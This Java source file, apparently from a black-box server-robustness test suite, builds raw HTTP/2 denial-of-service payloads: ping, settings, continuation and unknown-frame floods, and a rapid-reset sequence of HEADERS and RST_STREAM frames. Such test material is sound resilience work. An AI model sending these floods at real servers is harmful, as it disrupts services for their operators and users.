// SPDX-FileCopyrightText: The Faultline authors
// SPDX-License-Identifier: Apache-2.0
package dev.faultline.blackbox.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Floods of frames on one connection of HTTP/2 (RFC 9113, section 10.5). */
final class HttpTwoFrames {

    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END = 5;
    private static final int MANY = 5_000;

    /** GET / of http://a, as entries of the static table (RFC 7541, appendix A). */
    private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x84, (byte) 0x86, 0x41, 1, 'a'};

    private HttpTwoFrames() {}

    static Map<String, byte[]> floods() {
        var all = new LinkedHashMap<String, byte[]>();
        all.put("pings", repeated(PING, 0, 0, new byte[8]));
        all.put("settings", repeated(SETTINGS, 0, 0, new byte[0]));
        all.put("continuations", concat(frame(HEADERS, 0, 1, REQUEST), repeated(CONTINUATION, 0, 1, new byte[] {
            0x40, 1, 'x', 1, 'y'
        })));
        all.put("rapid resets", resets());
        all.put("unknown frames", repeated(0x7F, 0, 0, new byte[64]));
        return all;
    }

    private static byte[] resets() {
        var bytes = begun();
        for (var stream = 1; stream < 2 * MANY; stream += 2) {
            bytes.writeBytes(frame(HEADERS, END, stream, REQUEST));
            bytes.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
        }
        return bytes.toByteArray();
    }

    private static byte[] repeated(int type, int flags, int stream, byte[] payload) {
        var bytes = begun();
        var frame = frame(type, flags, stream, payload);
        for (var i = 0; i < MANY; i++) {
            bytes.writeBytes(frame);
        }
        return bytes.toByteArray();
    }

    private static ByteArrayOutputStream begun() {
        var bytes = new ByteArrayOutputStream();
        bytes.writeBytes(PREFACE.getBytes(StandardCharsets.US_ASCII));
        bytes.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
        return bytes;
    }

    private static byte[] concat(byte[] frame, byte[] flood) {
        var bytes = begun();
        bytes.writeBytes(frame);
        var beginning = begun().size();
        bytes.write(flood, beginning, flood.length - beginning);
        return bytes.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        var bytes = new ByteArrayOutputStream();
        bytes.write(payload.length >> 16);
        bytes.write(payload.length >> 8);
        bytes.write(payload.length);
        bytes.write(type);
        bytes.write(flags);
        for (var shift = 24; shift >= 0; shift -= 8) {
            bytes.write(stream >> shift);
        }
        bytes.writeBytes(payload);
        return bytes.toByteArray();
    }
}
